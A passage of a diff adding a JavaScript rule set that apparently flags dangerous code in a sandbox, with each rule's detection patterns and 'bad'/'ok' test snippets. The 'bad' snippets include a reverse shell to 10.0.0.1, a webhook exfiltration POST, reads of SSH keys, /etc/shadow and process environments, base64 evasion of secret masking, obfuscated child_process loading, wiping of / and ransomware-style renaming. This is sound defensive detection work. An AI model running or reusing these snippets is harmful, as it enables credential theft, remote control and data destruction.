+        recommendation: 'A program in the sandbox cannot be reached; call the handler directly',
+        metadata: { capability: 'network', cwe: 'CWE-1327' },
+        tags: ['serves'],
+        match: {
+            call: [
+                'http.createServer',
+                'https.createServer',
+                'net.createServer',
+                'net.Server',
+                'http.Server',
+                'express',
+                'http2.createServer',
+                'dgram.createSocket().bind',
+            ],
+        },
+        bad: ["require('http').createServer((q, s) => s.end('x')).listen(80)"],
+        ok: ['const bus = { listen() {} }; bus.listen();'],
+    },
+    {
+        id: 'js/network/metadata-address',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: "Asks the cloud's metadata service, which hands out credentials",
+        recommendation: 'Leave the metadata service alone',
+        metadata: { capability: 'network', cwe: 'CWE-918' },
+        tags: ['send'],
+        match: {
+            call: REQUESTS,
+            where: {
+                arg: 'any',
+                regex: '(?i)^(?:https?://)?(?:[^/@]{0,60}@)?(?:169\\.254\\.(?:169\\.254|170\\.2)|metadata\\.google\\.internal|100\\.100\\.100\\.200|\\[?fd00:ec2::254\\]?|2852039166|0xa9fea9fe|0xa9\\.0xfe|0251\\.0376|instance-data)(?:[/:.]|$)',
+            },
+        },
+        bad: [
+            "fetch('http://169.254.169.254/latest/meta-data/')",
+            "require('http').get({ host: '169.254.169.254', path: '/' })",
+            "const ip = [169, 254, 169, 254].join('.'); fetch(`http://${ip}/latest`)",
+            "fetch('http://2852039166/latest')",
+            "fetch('http://metadata.google.internal/computeMetadata/v1/')",
+        ],
+        ok: [
+            "console.log('169.254.169.254 is link-local')",
+            "fetch('http://169.254.1.1/')",
+            "const linkLocal = ip => ip.startsWith('169.254.')",
+        ],
+    },
+    {
+        id: 'js/network/drop-address',
+        languages: javascript_data_languages,
+        severity: 'medium',
+        message: 'Sends to a service that is made for collecting foreign data',
+        recommendation: 'Print the result instead',
+        metadata: { capability: 'network', cwe: 'CWE-200' },
+        tags: ['send'],
+        match: {
+            call: REQUESTS,
+            where: {
+                arg: 'any',
+                contains: [
+                    'discord.com/api/webhooks',
+                    'discordapp.com/api/webhooks',
+                    'api.telegram.org/bot',
+                    'hooks.slack.com',
+                    'pastebin.com',
+                    'webhook.site',
+                    'requestbin',
+                    'ngrok',
+                    'transfer.sh',
+                    '.onion',
+                    'pipedream.net',
+                    'interact.sh',
+                    'oast.',
+                ],
+            },
+        },
+        bad: ["fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: 'x' })"],
+        ok: ["console.log('see https://pastebin.com/x')", "fetch('https://example.org/webhooks')"],
+    },
+    {
+        id: 'js/environment-secrets/variable',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Reads an environment variable',
+        recommendation: 'Pass values in as parameters; the sandbox has no secrets',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        match: [
+            { attribute: 'process.env.*' },
+            { attribute: ['os.userInfo', 'os.networkInterfaces'] },
+            { call: ['os.userInfo', 'os.networkInterfaces', 'process.report.getReport'] },
+        ],
+        bad: ['console.log(process.env.HOME)', 'const { PATH } = process.env;', "process['env'].HOME"],
+        ok: [
+            "console.log('process.env.HOME')",
+            'const settings = { env: 1 }; settings.env;',
+            'process.env.NODE_ENV_IS = 1',
+        ],
+    },
+    {
+        id: 'js/environment-secrets/secret',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Reads the whole environment or a variable that holds a secret',
+        recommendation: 'Pass values in as parameters; the sandbox has no secrets',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets'],
+        match: [{ attribute: ['process.env', ...javascript_data_SECRET_NAMES] }],
+        bad: [
+            'console.log(process.env)',
+            'for (const name in process.env) console.log(name)',
+            'const copy = { ...process.env };',
+            'console.log(process.env.GITHUB_TOKEN)',
+            'const { AWS_SECRET_ACCESS_KEY: k } = process.env; console.log(k)',
+            "const e = process['e' + 'nv']; console.log(Object.keys(e))",
+            "const p = globalThis['pro' + 'cess']; console.log(JSON.stringify(p.env))",
+        ],
+        ok: [
+            'const env = process.env; console.log(env.HOME)',
+            'const { PORT = 80 } = process.env; console.log(PORT)',
+            'console.log(process.env.LANG)',
+            "const token = 'TOKEN'; console.log(token)",
+        ],
+    },
+    {
+        id: 'js/environment-secrets/encoded',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Encodes the environment, so that masking of secrets does not see it',
+        recommendation: 'Print only the values that are needed, as they are',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+        match: [
+            {
+                call: ['Buffer.from', 'btoa', 'encodeURIComponent', 'zlib.*'],
+                where: { arg: 0, is: 'external', source: 'environment' },
+            },
+            { call: ['Buffer.from', 'btoa', 'zlib.*'], where: { arg: 0, path: javascript_data_SECRET_NAMES } },
+            { call: javascript_data_SECRET_NAMES.map((name) => `${name}.split`), where: { arg: 0, equals: '' } },
+            { call: javascript_data_SECRET_NAMES.map((name) => `${name}.replace*`) },
+            // The first letters show which secret it is; the others are the secret.
+            {
+                call: javascript_data_SECRET_NAMES.flatMap((name) => ['slice', 'substring', 'substr'].map((part) => `${name}.${part}`)),
+                where: [{ arg: 0, atLeast: 1 }, { maxArgs: 1 }],
+            },
+            { call: 'environment.split', where: { arg: 0, equals: '' } },
+            { call: ['environment.replace*', 'environment.charCodeAt', 'environment.codePointAt'] },
+        ],
+        bad: [
+            "console.log(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
+            'console.log(btoa(process.env.GITHUB_TOKEN))',
+            "console.log(process.env.GITHUB_TOKEN.split('').reverse().join(''))",
+            "console.log([...process.env.NPM_TOKEN].join(' '))",
+        ],
+        ok: [
+            'console.log(JSON.stringify(process.env))',
+            "console.log(Buffer.from(JSON.stringify({ a: 1 })).toString('base64'))",
+            'console.log(encodeURIComponent(process.env.LANG))',
+        ],
+    },
+    {
+        id: 'js/environment-secrets/process-files',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: "Reads a process's environment or memory from `/proc`",
+        recommendation: 'Pass values in as parameters; the sandbox has no secrets',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets', 'sensitive-path'],
+        match: {
+            call: ['fs.*', 'child_process.*'],
+            where: { arg: 'any', regex: '/proc/[a-z0-9*]{1,7}/(?:environ|mem|maps)' },
+        },
+        bad: [
+            "console.log(require('fs').readFileSync('/proc/self/environ', 'latin1'))",
+            "require('fs').readFileSync('/proc/' + 1 + '/environ')",
+        ],
+        ok: ["require('fs').readFileSync('/proc/meminfo')", "console.log('/proc/self/environ')"],
+    },
+    {
+        id: 'js/filesystem/access',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Reads or writes files',
+        recommendation: 'Use standard input and `OUTPUT_DIR`',
+        metadata: { capability: 'filesystem' },
+        match: [{ import: ['fs', 'fs.promises', 'fs-extra', 'graceful-fs'] }, { call: ['fs.*', 'fs-extra.*'] }],
+        bad: [
+            "require('fs').readFileSync('x')",
+            "import { readFile } from 'node:fs/promises'",
+            "const fs = await import('fs')",
+        ],
+        ok: ["console.log('fs.readFileSync')", 'const fs = { read: () => 1 }; fs.read()'],
+    },
+    {
+        id: 'js/filesystem/sensitive-path',
+        languages: javascript_data_languages,
+        severity: 'medium',
+        message: 'Reads files that hold credentials or tell about the system',
+        recommendation: 'Leave files outside of the work directory alone',
+        metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+        tags: ['sensitive-path'],
+        match: [
+            { call: FILE_READERS, where: { arg: 'any', regex: SECRET_FILES } },
+            {
+                all: [
+                    { call: ['fs.*', 'child_process.*'] },
+                    {
+                        string: {
+                            regex: '^(?:~|\\.\\.)?/[\\w./-]{0,80}(?:\\.ssh/|\\.aws/|\\.gnupg/|\\.kube/|id_rsa|id_ed25519)|^/?\\.ssh/id_|^/\\.(?:ssh|aws|netrc|npmrc)',
+                        },
+                    },
+                ],
+            },
+        ],
+        bad: [
+            "require('fs').readFileSync('/etc/shadow', 'utf8')",
+            "const fs = require('fs'), path = require('path'), os = require('os'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
+            "require('fs').readFileSync(`${process.env.HOME}/.ssh/id_rsa`)",
+            "require('fs').readFileSync('/pr' + 'oc/self/environ')",
+            "import { readFile } from 'fs/promises'; await readFile(process.env.HOME + '/.aws/credentials')",
+            "const f = require('fs'); f['readFile' + 'Sync'](['', 'etc', 'passwd'].join('/'))",
+        ],
+        ok: [
+            "console.log('/etc/shadow')",
+            "require('fs').readFileSync('./passwd.txt')",
+            "require('fs').readFileSync('/proc/cpuinfo')",
+            "require('path').join('ssh', 'keys.md')",
+        ],
+    },
+    {
+        id: 'js/filesystem/delete',
+        languages: javascript_data_languages,
+        severity: 'medium',
+        message: 'Deletes whole folders, or files whose names are not known before the program runs',
+        recommendation: 'Delete only named files that the program made',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            { call: REMOVERS, where: [{ arg: ['recursive'], is: 'true' }, ...NOT_OWN] },
+            { call: ['rimraf*', 'fs-extra.remove*', 'fs-extra.emptyDir*', 'del', 'del.*'], where: NOT_OWN },
+            {
+                all: [
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'] },
+                    {
+                        call: ['fs.unlink*', 'fs.promises.unlink', ...REMOVERS],
+                        where: { arg: 0, is: ['path', 'list'] },
+                    },
+                ],
+            },
+            {
+                call: ['fs.unlink', 'fs.unlinkSync', 'fs.promises.unlink', ...REMOVERS],
+                where: { arg: 0, is: ['external', 'unknown'] },
+            },
+        ],
+        bad: [
+            "require('fs').rmSync('/srv/data', { recursive: true })",
+            "const fs = require('fs'), p = require('path'); const wipe = (d) => { for (const f of fs.readdirSync(d)) fs.unlinkSync(p.join(d, f)); };",
+            "const { unlinkSync } = require('fs'); unlinkSync(process.argv[2])",
+            "require('rimraf').sync(parameters.folder)",
+        ],
+        ok: [
+            "require('fs').rmSync('build', { recursive: true, force: true })",
+            "const d = require('fs').mkdtempSync('x-'); require('fs').rmSync(d, { recursive: true })",
+            "require('fs').unlinkSync('tmp.txt')",
+            'new Map().delete(1)',
+            'const list = { remove() {} }; list.remove(parameters.x)',
+        ],
+    },
+    {
+        id: 'js/filesystem/delete-own',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Deletes files or folders of the program',
+        recommendation: 'Leave files alone: the sandbox is thrown away anyhow',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: { call: ['fs.unlink', 'fs.unlinkSync', 'fs.promises.unlink', ...REMOVERS] },
+        bad: ["require('fs').unlinkSync('tmp.txt')", "require('fs').rmSync('build', { recursive: true })"],
+        ok: ['new Map().delete(1)', "console.log('fs.unlinkSync')"],
+    },
+    {
+        id: 'js/filesystem/delete-system',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Deletes the system or a home folder',
+        recommendation: 'Delete only named files that the program made',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            {
+                call: REMOVERS,
+                where: { arg: 0, path: ['os.homedir()', 'process.env.HOME', 'process.env.USERPROFILE', 'path.parse().root'] },
+            },
+            {
+                all: [
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'], where: { arg: 0, regex: javascript_data_WHOLE } },
+                    {
+                        call: ['fs.unlink*', 'fs.promises.unlink', ...REMOVERS],
+                        where: { arg: 0, is: ['path', 'unknown', 'external', 'list'] },
+                    },
+                ],
+            },
+            {
+                all: [
+                    { call: ['os.homedir'] },
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'] },
+                    {
+                        call: ['fs.unlink*', 'fs.promises.unlink', ...REMOVERS],
+                        where: { arg: 0, is: ['path', 'unknown', 'external', 'list'] },
+                    },
+                ],
+            },
+            {
+                call: [...REMOVERS, 'fs.unlink*', 'fs.promises.unlink'],
+                where: {
+                    arg: 0,
+                    regex: '^(?:/|/\\*|~/?|\\.\\.?/?|/(?:home|root|etc|usr|var|bin|boot|lib|opt|srv|sys|dev|proc|tmp)/?|/(?:root|etc|usr|var/(?!tmp/)|bin|boot|lib|sys|dev|proc)/.{0,200})$',
+                },
+            },
+        ],
+        bad: [
+            "require('fs').rmSync(require('os').homedir(), { recursive: true })",
+            "require('fs').rmSync('/', { recursive: true, force: true })",
+            "require('fs/promises').rm('/ho' + 'me', { recursive: true })",
+            "require('rimraf')('/etc')",
+        ],
+        ok: [
+            "require('fs').rmSync('./build', { recursive: true })",
+            "console.log('rm -rf /')",
+            "require('fs').unlinkSync('/tmp/report.txt')",
+        ],
+    },
+    {
+        id: 'js/filesystem/overwrite-everything',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Overwrites or renames whatever it finds in the home or the system',
+        recommendation: 'Write only to named files of the program',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            {
+                all: [
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'], where: { arg: 0, path: HOMES } },
+                    { call: OVERWRITERS, where: { arg: 0, is: ['path', 'unknown', 'external', 'list'] } },
+                ],
+            },
+            {
+                all: [
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'], where: { arg: 0, regex: javascript_data_WHOLE } },
+                    { call: OVERWRITERS, where: { arg: 0, is: ['path', 'unknown', 'external', 'list'] } },
+                ],
+            },
+        ],
+        bad: [
+            "const fs = require('fs'), h = require('os').homedir(); for (const f of fs.readdirSync(h)) fs.writeFileSync(h + '/' + f, 'x');",
+            "const fs = require('fs'); for (const f of fs.readdirSync('/home')) fs.renameSync('/home/' + f, '/home/' + f + '.locked');",
+        ],
+        ok: [
+            "const fs = require('fs'); for (const f of fs.readdirSync('.')) fs.writeFileSync('out/' + f, 'x');",
+            "console.log(require('fs').readdirSync(require('os').homedir()).length)",
+        ],
+    },
+    {
+        id: 'js/filesystem/startup-file',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Writes to a file that other programs run or trust',
+        recommendation: 'Write to `OUTPUT_DIR`',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: [
+            { call: javascript_data_WRITERS, where: { arg: 0, regex: javascript_data_STARTUP } },
+            { call: COPIERS, where: { arg: 1, regex: javascript_data_STARTUP } },
+            { call: javascript_data_WRITERS, where: { arg: 0, path: ['process.env.GITHUB_ENV', 'process.env.GITHUB_PATH'] } },
+        ],
+        bad: [
+            "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')",
+            "require('fs').writeFileSync('/etc/cron.d/x', '* * * * * root x')",
+            "require('fs').appendFileSync(process.env.GITHUB_ENV, 'A=1')",
+            "const { symlinkSync } = require('fs'); symlinkSync('/tmp/x.sh', '/etc/profile.d/x.sh')",
+        ],
+        ok: [
+            "require('fs').writeFileSync('out.txt', '/etc/cron')",
+            "require('fs').appendFileSync(process.env.GITHUB_OUTPUT, 'a=1')",
+        ],
+    },
+    {
+        id: 'js/filesystem/package-hook',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Plants a command that runs when somebody installs the package',
+        recommendation: 'Write hooks into package.json by hand, where they can be reviewed',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: {
+            all: [
+                { assign: ['*.preinstall', '*.install', '*.postinstall', '*.prepare'] },
+                { call: javascript_data_WRITERS, where: { arg: 0, regex: '(?:^|/)package\\.json$' } },
+            ],
+        },
+        bad: [
+            "const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json')); p.scripts.postinstall = 'x'; fs.writeFileSync('package.json', JSON.stringify(p));",
+        ],
+        ok: [
+            "const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json')); p.version = '1.0.1'; fs.writeFileSync('package.json', JSON.stringify(p));",
+        ],
+    },
+    {
+        id: 'js/filesystem/set-user-id',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Makes a file that runs with the rights of its owner',
+        recommendation: 'Leave permissions as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: { call: ['fs.chmod*', 'fs.promises.chmod', 'fs.fchmod*'], where: { arg: 1, atLeast: 2048, atMost: 4095 } },
+        bad: ["require('fs').chmodSync('/tmp/sh', 0o4755)"],
+        ok: ["require('fs').chmodSync('run.sh', 0o755)"],
+    },
+    {
+        id: 'js/filesystem/system-write',
+        languages: javascript_data_languages,
+        severity: 'medium',
+        message: 'Writes where the system or a login reads its settings',
+        recommendation: 'Write to `OUTPUT_DIR`',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: {
+            call: [...javascript_data_WRITERS, 'fs.promises.*'],
+            where: {
+                arg: 'any',
+                regex: '^/(?:etc|usr|bin|sbin|lib|boot|var/spool/cron)/|authorized_keys$|(?:^|/)\\.(?:bashrc|profile|bash_profile|zshrc|gitconfig)$|\\.git/hooks/',
+            },
+        },
+        bad: [
+            "require('fs').appendFileSync('/etc/crontab', '* * * * * root x')",
+            "require('fs').writeFileSync('.git/hooks/pre-commit', 'x')",
+            "import { writeFile } from 'fs/promises'; writeFile('/root/.ssh/authorized_keys', 'k')",
+        ],
+        ok: ["require('fs').writeFileSync('out.txt', 'x')", "require('fs').writeFileSync('/tmp/etc/x', 'x')"],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/javascript-process.js
+const javascript_process_languages = ['javascript', 'typescript'];
+const STARTERS = ['child_process.*', 'execa*', 'shelljs.exec', 'zx.$', 'cluster.fork', 'Bun.spawn*', 'Deno.Command'];
+const SHELL_RUNNERS = ['child_process.exec', 'child_process.execSync', 'shelljs.exec', 'execa.command*'];
+const SPAWNERS = ['child_process.spawn*', 'child_process.execFile*'];
+const processRules = [
+    {
+        id: 'js/process/child-process',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Starts other processes',
+        recommendation: 'Do the work in the program itself',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: [{ import: ['child_process', 'execa', 'cross-spawn', 'shelljs', 'zx', 'cluster'] }, { call: STARTERS }],
+        bad: [
+            "require('child_process').execFile('ls')",
+            "import { spawn as s } from 'node:child_process'; s('ls')",
+            "const { execFileSync: run } = require('child_process'); run('date')",
+        ],
+        ok: [
+            "// require('child_process')",
+            "console.log('child_process')",
+            'const tree = { child_process: 1 }; console.log(tree.child_process)',
+            '/a/.exec("a")',
+        ],
+    },
+    {
+        id: 'js/process/shell',
+        languages: javascript_process_languages,
+        severity: 'medium',
+        message: 'Starts a shell command',
+        recommendation: 'Pass an argument list (`execFile`) and leave the shell out',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: [
+            { call: SHELL_RUNNERS },
+            { call: SPAWNERS, where: { arg: 'shell', is: ['true', 'string'] } },
+            { call: SPAWNERS, where: [{ arg: 0, regex: '(?:^|/)(?:ba|da|z|k|a)?sh$' }] },
+            { call: '?.execSync' },
+        ],
+        bad: [
+            "require('child_process').execSync('id')",
+            "import cp from 'child_process'; cp.exec('id')",
+            "const { spawn } = require('child_process'); spawn('id', { shell: true })",
+            "const cp = require('node:child_process'); cp.spawnSync('/bin/sh', ['-c', 'id'])",
+            "const { promisify } = require('util'); promisify(require('child_process').exec)('id')",
+            "import('child_process').then((m) => m.exec('id'))",
+            "require('child_process').exec.call(null, 'id')",
+            "const run = require('child_process')['execSync']; run('id')",
+        ],
+        ok: [
+            "require('child_process').execFile('ls', ['-l'])",
+            "const m = /x/.exec('x'); console.log(m)",
+            'const db = { exec: (q) => q }; db.exec("select 1");',
+        ],
+    },
+    {
+        id: 'js/process/renamed-shell',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Starts a shell command by a function that goes under another name',
+        recommendation: 'Call the function by its own name, or leave the shell out',
+        metadata: { capability: 'process', cwe: 'CWE-506' },
+        match: [
+            { call: SHELL_RUNNERS, renamed: true },
+            { call: SPAWNERS, renamed: true, where: { arg: 'shell', is: ['true', 'string'] } },
+            { call: SPAWNERS, renamed: true, where: { arg: 0, regex: '(?:^|/)(?:ba|da|z|k|a)?sh$' } },
+        ],
+        bad: [
+            "const { execSync: tidy } = require('child_process'); tidy('make')",
+            "import { exec as go } from 'node:child_process'; go('make')",
+            "const o = { get run() { return require('child_process').execSync; } }; o.run('make')",
+            "const t = { a: require('child_process').spawn }; t.a('sh', ['-c', 'make'])",
+        ],
+        ok: [
+            "const { execSync } = require('child_process'); execSync('make')",
+            "import { execFile as run } from 'child_process'; run('ls', ['-l'])",
+            "const util = require('util'); const execute = util.promisify(require('child_process').exec); execute('make')",
+        ],
+    },
+    {
+        id: 'js/process/given-command',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Runs a command that is not known before the program runs',
+        recommendation: 'Choose between known commands',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        tags: ['runs-given', 'execute'],
+        match: {
+            call: [...SHELL_RUNNERS, ...SPAWNERS, 'eval', 'Function', 'vm.run*'],
+            where: [{ arg: 0, is: ['unknown', 'external', 'path'] }],
+        },
+        bad: ["require('child_process').exec(parameters.command)", 'eval(parameters.code)'],
+        ok: ["require('child_process').exec('make')", "eval('1')"],
+    },
+    {
+        id: 'js/process/hidden-child-process',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Loads or calls `child_process` by a disguised name',
+        recommendation: 'Write the name out plainly',
+        metadata: { capability: 'process', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: [
+            { import: ['child_process', 'vm', 'worker_threads', 'net', 'inspector'], hidden: true },
+            { call: ['child_process.*', 'process.binding', 'process.dlopen', 'process._linkedBinding'], hidden: true },
+        ],
+        bad: [
+            "require('child' + '_process')",
+            "const m = ['child', 'process'].join('_'); require(m)",
+            "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())",
+            "require('\\x63hild_process')",
+            "require('ssecorp_dlihc'.split('').reverse().join(''))",
+            "require(`child_${'process'}`)",
+            "require('child_process')['ex' + 'ec']('id')",
+            "process.mainModule.require('child_' + 'process')",
+            "await import('chi' + 'ld_process')",
+            "(function (r) { return r('chil' + 'd_process'); })(require)",
+            "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
+            "const r = (0, require); const n = atob('Y2hpbGRfcHJvY2Vzcw=='); r(n)",
+            "require(decodeURIComponent('%63hild_process'))",
+            "const load = (n) => require(n.replace('#', '_')); load('child#process')",
+        ],
+        ok: ["require('pa' + 'th')", "const n = `./lib/${'names'}`; require(n)", "console.log('child' + ' process')"],
+    },
+    {
+        id: 'js/process/probe',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Asks a shell who and where it is, as an intruder does first',
+        recommendation: 'Leave it out; `os` and `process` tell what a program needs to know',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: {
+            call: ['child_process.*', 'execa*', 'shelljs.exec', '?.execSync'],
+            where: {
+                arg: 'any',
+                regex: '^(?:/usr)?(?:/bin/)?(?:id|whoami|env|printenv|netstat|ifconfig)$|^(?:cat|less|head|strings) /(?:etc/(?:passwd|shadow|hosts)|proc/[a-z0-9]{1,7}/environ)',
+            },
+        },
+        bad: [
+            "require('child_process').execSync('id')",
+            "import { execFileSync as run } from 'child_process'; run('whoami')",
+            "require('child_process').spawn('cat /etc/passwd', { shell: true })",
+        ],
+        ok: [
+            "require('child_process').execSync('git rev-parse HEAD')",
+            "require('child_process').execFile('identify', ['a.png'])",
+            "console.log('whoami')",
+        ],
+    },
+    {
+        id: 'js/process/runs-file',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Runs a program file or makes one executable',
+        recommendation: 'Run only what the repository holds',
+        metadata: { capability: 'process', cwe: 'CWE-732' },
+        tags: ['execute'],
+        match: [
+            {
+                call: ['child_process.*'],
+                where: {
+                    arg: 0,
+                    regex: '^(?:/tmp/|/var/tmp/|/dev/shm/|\\./)|\\bchmod \\+?[0-7a-z]{1,4}|^(?:sh|bash|node|python3?) [\\w./~-]',
+                },
+            },
+            {
+                call: SPAWNERS,
+                where: [
+                    { arg: 0, regex: '^(?:/bin/)?(?:sh|bash|node|python3?)$' },
+                    { arg: 1, contains: '/' },
+                ],
+            },
+            { call: ['fs.chmod*', 'fs.promises.chmod'] },
+        ],
+        bad: [
+            "require('child_process').execSync('sh /tmp/x.sh')",
+            "require('fs').chmodSync('/tmp/x', 0o755)",
+            "require('child_process').spawn('/tmp/x')",
+        ],
+        ok: ["require('child_process').execFile('git', ['status'])"],
+    },
+    {
+        id: 'js/process/kill',
+        languages: javascript_process_languages,
+        severity: 'medium',
+        message: 'Sends signals to other processes',
+        recommendation: 'End only what the program started, by its own handle',
+        metadata: { capability: 'process' },
+        match: [
+            { call: 'process.kill', where: { arg: 0, path: 'process.pid', not: true } },
+            { call: 'process._debugProcess' },
+        ],
+        bad: ["process.kill(1, 'SIGKILL')", 'const { kill } = process; kill(-1)'],
+        ok: ['process.kill(process.pid)', 'process.exit(1)', 'const timer = { kill() {} }; timer.kill();'],
+    },
+    {
+        id: 'js/process/kill-all',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Kills every process it can reach, or the first one',
+        recommendation: 'End only what the program started, by its own handle',
+        metadata: { capability: 'process' },
+        match: [
+            { call: 'process.kill', where: { arg: 0, atMost: 1 } },
+            { call: 'process.kill', where: { arg: 0, path: 'process.ppid' } },
+        ],
+        bad: ["process.kill(-1, 'SIGKILL')", 'process.kill(1)'],
+        ok: ['process.kill(process.pid)', 'process.kill(parameters.pid)'],
+    },
+    {
+        id: 'js/process/reverse-shell',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Joins a network connection to a shell',
+        recommendation: 'Never hand a shell to the network',
+        metadata: { capability: 'process', cwe: 'CWE-506' },
+        match: [
+            {
+                all: [
+                    {
+                        call: [
+                            'net.connect',
+                            'net.createConnection',
+                            'net.Socket*',
+                            'tls.connect',
+                            'net.createServer',
+                            'WebSocket',
+                            'dgram.createSocket',
+                        ],
+                    },
+                    {
+                        call: ['child_process.spawn*', 'child_process.exec*'],
+                        where: { arg: 0, regex: '(?:^|/)(?:(?:ba|da|z|k|a)?sh|cmd(?:\\.exe)?|powershell(?:\\.exe)?)\\b' },
+                    },
+                ],
+            },
+        ],
+        bad: [
+            "const s = require('net').connect(4444, '10.0.0.1'); const p = require('child_process').spawn('/bin/sh', []); s.pipe(p.stdin); p.stdout.pipe(s);",
+            "import net from 'net'; import { spawn } from 'child_process'; const c = new net.Socket(); c.connect(9, 'h', () => { const sh = spawn('bash', ['-i']); c.pipe(sh.stdin); });",
+        ],
+        ok: [
+            "const s = require('net').connect(80, 'example.org'); s.end('x');",
+            "require('child_process').spawn('/bin/sh', ['-c', 'ls'])",
+        ],
+    },
+    {
+        id: 'js/native/binding',
+        languages: javascript_process_languages,
+        severity: 'medium',
+        message: "Reaches Node's internals or loads native code",
+        recommendation: 'Use the documented modules',
+        metadata: { capability: 'native', cwe: 'CWE-676' },
+        match: [
+            { call: ['process.binding', 'process._linkedBinding', 'process.dlopen', 'wasi.WASI'] },
+            { attribute: ['process.binding', 'process.dlopen', 'process._linkedBinding'] },
+            { import: ['*.node', 'ffi', 'ffi-napi', 'koffi', 'ref-napi', 'node-ffi*', 'bun:ffi', 'internal/*'] },
+        ],
+        bad: [
+            "process.binding('fs')",
+            "process['binding']('fs')",
+            "require('./evil.node')",
+            "const { dlopen } = process; dlopen({}, './x.so')",
+        ],
+        ok: [
+            'const f = (() => 1).bind(null); f();',
+            "const doc = 'process.binding is deprecated'; console.log(doc)",
+            "require('./graph-node')",
+        ],
+    },
+    {
+        id: 'js/native/preload',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Puts foreign code into every program that starts (LD_PRELOAD, NODE_OPTIONS)',
+        recommendation: 'Leave the environment of other programs as it is',
+        metadata: { capability: 'native', cwe: 'CWE-426' },
+        match: {
+            assign: ['LD_PRELOAD', 'LD_AUDIT', 'BASH_ENV', 'PYTHONSTARTUP', 'GIT_SSH_COMMAND', 'NODE_OPTIONS'].map((name) => `process.env.${name}`),
+        },
+        bad: [
+            "process.env.LD_PRELOAD = '/tmp/x.so'",
+            "require('child_process').spawn('ls', { env: { LD_PRELOAD: '/tmp/x.so' } })",
+            "require('child_process').execFile('ls', [], { env: { ...process.env, NODE_OPTIONS: '--require /tmp/x.js' } })",
+        ],
+        ok: ["process.env.LANG = 'C'", "require('child_process').spawn('ls', { env: { LANG: 'C' } })"],
+    },
+    {
+        id: 'js/native/spawn-binding',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Starts processes or loads native code through internals that no ordinary program uses',
+        recommendation: 'Use the documented modules',
+        metadata: { capability: 'native', cwe: 'CWE-506' },
+        match: [
+            {
+                call: ['process.binding', 'process._linkedBinding'],
+                where: { arg: 0, equals: ['constants', 'config', 'util'], not: true },
+            },
+            { call: 'process.dlopen' },
+            { import: ['/tmp/*', '/var/tmp/*', '/dev/shm/*'] },
+            {
+                call: ['module._extensions*', 'require.extensions*', 'Worker', 'worker_threads.Worker', 'child_process.fork'],
+                where: { arg: 'any', regex: '^/(?:tmp|var/tmp|dev/shm)/' },
+            },
+        ],
+        bad: [
+            "process.dlopen({ exports: {} }, '/tmp/x.node')",
+            "process.binding('spawn_sync').spawn({ file: '/bin/sh' })",
+            "process.binding('process_' + 'wrap')",
+            "process.binding('fs')",
+            "require('/tmp/x.node')",
+        ],
+        ok: ["process.binding('constants')"],
+    },
+    {
+        id: 'js/native/webassembly',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Runs WebAssembly',
+        recommendation: 'Prefer code that can be read',
+        metadata: { capability: 'native' },
+        match: { call: ['WebAssembly.*', 'wasi.WASI'] },
+        bad: [
+            'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109]))',
+            'await WebAssembly.instantiate(parameters.bytes)',
+        ],
+        ok: ["console.log('WebAssembly.instantiate')"],
+    },
+    {
